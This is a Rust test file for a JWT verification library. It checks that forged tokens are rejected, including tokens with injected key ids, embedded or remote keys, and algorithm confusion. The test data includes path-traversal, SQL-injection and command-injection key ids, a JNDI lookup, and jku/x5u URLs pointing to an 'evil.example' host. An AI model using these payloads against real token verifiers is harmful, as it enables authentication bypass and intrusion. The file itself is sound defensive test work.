//! Tests of key-confusion attacks: injected key ids and embedded keys.

use isotype_auth::{Algorithm, Jwt, Key, Keys, TokenError};
use jsonwebtoken::{Algorithm as Inner, EncodingKey};
use serde_json::{Value, json};

use crate::{
    assertions::{assert_accepted, assert_rejected},
    forge::{ED, ES, RSA_PUBLIC, SECRET, claims, secret, sign, sign_hs256, sign_with},
};

/// Returns a verifier with a secret `one` and a public key `two`.
fn two_key_verifier() -> Jwt<Value> {
    let public = Key::from_pem(Algorithm::Rs256, RSA_PUBLIC).unwrap().with_id("two");
    Jwt::new(Keys::new([Key::hs256(&secret()).with_id("one"), public]).unwrap())
}

fn sign_with_kid(kid: &Value) -> String {
    sign(json!({"alg": "HS256", "kid": kid}).to_string(), claims(json!({})))
}

#[test]
fn rejects_injected_key_ids() {
    assert_accepted("kid: one", &two_key_verifier(), &sign_with_kid(&json!("one")));
    for kid in [
        "../../../../dev/null",
        "/dev/null",
        "one\0",
        "ONE",
        "' UNION SELECT 'AAAA' -- ",
        "one; touch /tmp/x",
        "${jndi:ldap://evil.example/a}",
        "https://evil.example/jwks.json",
        "__proto__",
        "",
    ] {
        assert_rejected(
            &format!("kid: {kid:?}"),
            &two_key_verifier(),
            &sign_with_kid(&json!(kid)),
            TokenError::UnknownKey,
        );
    }
    assert_rejected(
        "kid of 5,000 bytes",
        &two_key_verifier(),
        &sign_with_kid(&json!("x".repeat(5000))),
        TokenError::UnknownKey,
    );
    for kid in [json!(7), json!(null), json!(["one"]), json!({"one": 1})] {
        assert_rejected(&format!("kid: {kid}"), &two_key_verifier(), &sign_with_kid(&kid), TokenError::InvalidHeader);
    }
    let empty = sign_hs256(b"", r#"{"alg":"HS256","kid":"../../dev/null"}"#, claims(json!({})));
    assert_rejected(
        "kid of an empty file, signed with an empty secret",
        &two_key_verifier(),
        &empty,
        TokenError::UnknownKey,
    );
}

#[test]
fn rejects_the_id_of_another_key() {
    let token = sign_hs256(RSA_PUBLIC.as_bytes(), r#"{"alg":"HS256","kid":"two"}"#, claims(json!({})));
    assert_rejected(
        "HS256 with the public key as secret, under the kid of that key",
        &two_key_verifier(),
        &token,
        TokenError::InvalidAlgorithm,
    );
    let token = sign_hs256(RSA_PUBLIC.as_bytes(), r#"{"alg":"HS256","kid":"one"}"#, claims(json!({})));
    assert_rejected(
        "HS256 with the public key as secret, under the kid of the secret",
        &two_key_verifier(),
        &token,
        TokenError::InvalidSignature,
    );
    assert_rejected(
        "no kid although there are several keys",
        &two_key_verifier(),
        &sign(r#"{"alg":"HS256"}"#, claims(json!({}))),
        TokenError::UnknownKey,
    );
    let duplicate_ids =
        [Key::hs256(&secret()).with_id("two"), Key::from_pem(Algorithm::Rs256, RSA_PUBLIC).unwrap().with_id("two")];
    crate::assertions::print_row("a secret and a public key with one kid", "rejected when configured");
    assert!(Keys::new(duplicate_ids).is_err());
}

#[test]
fn ignores_keys_embedded_in_tokens() {
    let attacker_key = EncodingKey::from_ed_pem(ED.as_bytes()).unwrap();
    let jwk = json!(Keys::from(Key::from_pem(Algorithm::EdDsa, ED).unwrap()).jwks())["keys"][0].clone();
    let es256_verifier: Jwt<Value> = Jwt::new(Key::from_pem(Algorithm::Es256, ES).unwrap().with_id("k"));
    let ed25519_verifier: Jwt<Value> = Jwt::new(
        Key::from_jwk(r#"{"kty":"OKP","crv":"Ed25519","x":"11qYAYKxCrfVS_7TyWQHOg7hcvPapiMlrwIaaPcHURo","kid":"k"}"#)
            .unwrap(),
    );
    for (case, more) in [
        ("jwk", json!({"jwk": jwk})),
        ("jku", json!({"jku": "https://evil.example/jwks.json"})),
        ("x5u", json!({"x5u": "https://evil.example/chain.pem"})),
        ("x5c", json!({"x5c": ["MIIB"]})),
    ] {
        let mut header = json!({"alg": "EdDSA", "kid": "k"});
        header.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        let token = sign_with(Inner::EdDSA, &attacker_key, header.to_string(), claims(json!({})));
        assert_rejected(
            &format!("{case} with the attacker's key, against a key of another type"),
            &es256_verifier,
            &token,
            TokenError::InvalidAlgorithm,
        );
        assert_rejected(
            &format!("{case} with the attacker's key, against a key of the same type"),
            &ed25519_verifier,
            &token,
            TokenError::InvalidSignature,
        );
    }
    let token = sign(r#"{"alg":"HS256","jwk":7,"jku":"file:///etc/passwd"}"#, claims(json!({})));
    assert_accepted("malformed jwk and jku with a valid signature", &Jwt::hs256(&secret()), &token);
    assert_eq!(SECRET.len(), 32);
}
